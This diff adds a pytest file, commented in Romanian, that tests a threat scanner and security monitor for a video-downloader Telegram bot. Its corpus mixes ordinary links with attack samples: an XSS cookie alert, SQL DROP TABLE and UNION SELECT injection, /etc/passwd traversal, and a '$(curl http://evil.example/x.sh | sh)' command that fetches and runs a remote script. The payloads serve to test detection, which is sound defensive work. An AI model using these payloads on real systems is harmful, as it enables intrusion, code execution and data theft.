@@ -0,0 +1,159 @@
+# tests/test_threat_scanner.py - Unit tests for Threat Scanner
+# Versiunea: 1.0.0
+
+import pytest
+import random
+import re
+import time
+from unittest.mock import patch
+
+# Import system under test
+import sys
+import os
+sys.path.append(os.path.dirname(os.path.dirname(__file__)))
+
+from utils.security.threat_scanner import ThreatScanner, fold_case
+from utils.security.input_sanitizer import InputSanitizer, InputType, THREAT_CATEGORIES
+
+# Mesaje și link-uri tipice primite de bot, plus câteva payload-uri ostile
+TELEGRAM_CORPUS = [
+    "/start",
+    "/help",
+    "https://www.tiktok.com/@user.name/video/7234567890123456789?is_from_webapp=1&sender_device=pc",
+    "https://vm.tiktok.com/ZMabc123/",
+    "salut, uite clipul asta https://www.instagram.com/reel/Cabc123/?igsh=MWx0bXR5",
+    "https://www.facebook.com/watch?v=123456789&ref=sharing",
+    "https://fb.watch/abc123/",
+    "https://x.com/user/status/1234567890?s=46&t=AbCdEf",
+    "https://www.threads.net/@user/post/Cxyz",
+    "Mersi mult! Merge perfect bot-ul 🙏 Poți descărca și de pe Pinterest?",
+    "Nu merge link-ul ăsta, îmi dă eroare de format: https://pin.it/abc123",
+    "<script>alert(document.cookie)</script>",
+    "../../etc/passwd",
+    "'; DROP TABLE users; --",
+    "$(curl http://evil.example/x.sh | sh)",
+    "https://example.com/%252e%252e%252fetc/passwd",
+    "Am încercat de trei ori, tot nu vrea. " * 8,
+]
+
+
+def legacy_scan(sanitizer: InputSanitizer, text: str):
+    """Detectoarele vechi: câte un re.search per pattern (referință pentru paritate și benchmark)"""
+    result = {}
+    categories = (
+        ('sql_injection', sanitizer.sql_injection_patterns, text.lower()),
+        ('xss', sanitizer.xss_patterns, text),
+        ('path_traversal', sanitizer.path_traversal_patterns, text),
+        ('command_injection', sanitizer.command_injection_patterns, text),
+    )
+    for category, patterns, value in categories:
+        for pattern in patterns:
+            if re.search(pattern, value, re.IGNORECASE):
+                result.setdefault(category, []).append(pattern)
+    return result
+
+
+class TestThreatScanner:
+    """Test suite pentru ThreatScanner"""
+
+    @pytest.fixture
+    def sanitizer(self):
+        """Sanitizer cu pattern-urile implicite"""
+        return InputSanitizer()
+
+    def test_matches_per_pattern_search(self, sanitizer):
+        """Test paritate cu re.search per pattern pe corpusul de mesaje"""
+        for text in TELEGRAM_CORPUS:
+            assert sanitizer.threat_scanner.scan(text) == legacy_scan(sanitizer, text), text
+
+    def test_matches_per_pattern_search_random(self, sanitizer):
+        """Test paritate pe input-uri generate (literale suprapuse, majuscule, Unicode)"""
+        alphabet = list("abcdeiklnorstuxAEIKST<>/\\.;:'\"|&$()`{}*-=%2 \n") + [
+            'script', 'javascript:', 'union', '..', '%2e', 'on', 'echo', 'printf',
+            'C:\\Windows', '/etc/passwd', 'url(', '@import', '<iframe', 'İ', 'ſ', 'K',
+        ]
+        rng = random.Random(12)
+        for _ in range(3000):
+            text = ''.join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
+            assert sanitizer.threat_scanner.scan(text) == legacy_scan(sanitizer, text), text
+
+    def test_overlapping_literals_and_case(self):
+        """Test literale suprapuse și potrivire fără diferențe de majuscule"""
+        scanner = ThreatScanner({'a': ['script'], 'b': [r'(javascript|vbscript)'], 'c': ['print', 'printf']})
+        assert scanner.scan("JavaScript") == {'a': ['script'], 'b': [r'(javascript|vbscript)']}
+        assert scanner.scan("printf") == {'c': ['print', 'printf']}
+        assert scanner.scan("ſcript") == {'a': ['script']}
+        assert scanner.scan("nimic aici") == {}
+        assert fold_case("İNSERT") == "insert"
+
+    def test_gated_patterns_skip_regex(self):
+        """Test că regex-urile cu literal obligatoriu rulează doar când literalul apare"""
+        scanner = ThreatScanner({'xss': [r"<iframe[^>]*>", r"on\w+\s*="]})
+        scanner.scan("https://vm.tiktok.com/ZMabc123/")
+        assert scanner.get_stats()['regex_checks'] == 0
+
+        assert scanner.scan('<IFRAME src=x onload = 1>') == {'xss': [r"<iframe[^>]*>", r"on\w+\s*="]}
+        assert scanner.get_stats()['regex_checks'] == 2
+
+    def test_sanitize_and_validate_threats(self, sanitizer):
+        """Test că mesajele și scorurile de risc rămân cele ale detectoarelor separate"""
+        text = "<script>alert(1)</script>"
+        result = sanitizer.sanitize_and_validate(text, InputType.TEXT)
+
+        expected_threats = []
+        for category, (message, _) in THREAT_CATEGORIES.items():
+            expected_threats += [f"{message}: {p}" for p in legacy_scan(sanitizer, text).get(category, [])]
+        assert result.threats_detected == expected_threats
+        assert result.risk_score == 100
+        assert not result.is_valid
+
+    def test_sanitize_message_keeps_links(self, sanitizer):
+        """Test că mesajul webhook păstrează link-ul intact"""
+        url = "https://www.tiktok.com/@user/video/1?is_from_webapp=1&sender_device=pc"
+        assert sanitizer.sanitize_message(f"  {url}\x00\n") == url
+        assert sanitizer.sanitize_message("") == ""
+
+    def test_security_monitor_payload_rules(self, tmp_path, monkeypatch):
+        """Test regulile de payload ale SecurityMonitor pe o singură scanare"""
+        from utils.security.security_monitor import SecurityMonitor, AttackType
+
+        monkeypatch.chdir(tmp_path)
+        with patch('utils.security.security_monitor.threading.Thread'):
+            monitor = SecurityMonitor()
+        for rule in monitor.security_rules:
+            rule.auto_mitigate = False
+
+        threat = monitor.analyze_request({'request_data': "x UNION SELECT password FROM users"})
+        assert threat.threat_type == AttackType.INJECTION
+
+        threat = monitor.analyze_request({'request_data': "/download?file=..%2F..%2Fetc/passwd&x=../"})
+        assert threat.threat_type == AttackType.PATH_TRAVERSAL
+        assert monitor.payload_scanner.get_stats()['scans'] == 2
+
+        assert monitor.analyze_request({'request_data': "https://vm.tiktok.com/ZMabc123/"}) is None
+
+
+@pytest.mark.slow
+class TestThreatScannerBenchmark:
+    """Micro-benchmark: latența per mesaj, scanare combinată vs re.search per pattern"""
+
+    def test_scan_latency_per_message(self):
+        sanitizer = InputSanitizer()
+        scanner = sanitizer.threat_scanner
+        rounds = 300
+
+        start = time.perf_counter()
+        for _ in range(rounds):
+            for text in TELEGRAM_CORPUS:
+                legacy_scan(sanitizer, text)
+        legacy_us = (time.perf_counter() - start) * 1e6 / (rounds * len(TELEGRAM_CORPUS))
+
+        start = time.perf_counter()
+        for _ in range(rounds):
+            for text in TELEGRAM_CORPUS:
+                scanner.scan(text)
+        combined_us = (time.perf_counter() - start) * 1e6 / (rounds * len(TELEGRAM_CORPUS))
+
+        print(f"\nScanare per mesaj: per pattern {legacy_us:.1f}µs, combinată {combined_us:.1f}µs "
+              f"({scanner.get_stats()['patterns']} pattern-uri, {scanner.get_stats()['literals']} literale)")
+        assert scanner.get_stats()['scans'] == rounds * len(TELEGRAM_CORPUS)